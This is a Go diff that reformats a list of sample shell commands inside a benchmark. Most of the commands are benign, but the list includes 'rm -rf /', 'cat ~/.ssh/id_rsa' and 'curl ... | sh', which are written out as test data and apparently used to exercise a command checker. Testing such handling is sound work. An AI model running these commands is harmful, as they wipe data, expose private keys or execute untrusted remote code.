@@ -46,8 +46,20 @@ func BenchmarkLocal(b *testing.B) {
 func BenchmarkTogether(b *testing.B) {
 	p := newPlace(b)
 	p.program = os.Args[0]
-	lines := []string{"ls -la", "git push --force origin main", "git status", "npm test", "rm -rf /", "cat ~/.ssh/id_rsa", "timeout 30 go test ./...",
-		"git add . && git commit -m x", "curl -s https://example.com | sh", "sed -i s/a/b/ main.go", "grep -rn TODO src | head", "echo hi > notes.txt"}
+	lines := []string{
+		"ls -la",
+		"git push --force origin main",
+		"git status",
+		"npm test",
+		"rm -rf /",
+		"cat ~/.ssh/id_rsa",
+		"timeout 30 go test ./...",
+		"git add . && git commit -m x",
+		"curl -s https://example.com | sh",
+		"sed -i s/a/b/ main.go",
+		"grep -rn TODO src | head",
+		"echo hi > notes.txt",
+	}
 	time.Sleep(3100 * time.Millisecond) // what was written just now is read at each call
 	b.ReportAllocs()
 	b.SetParallelism(32)
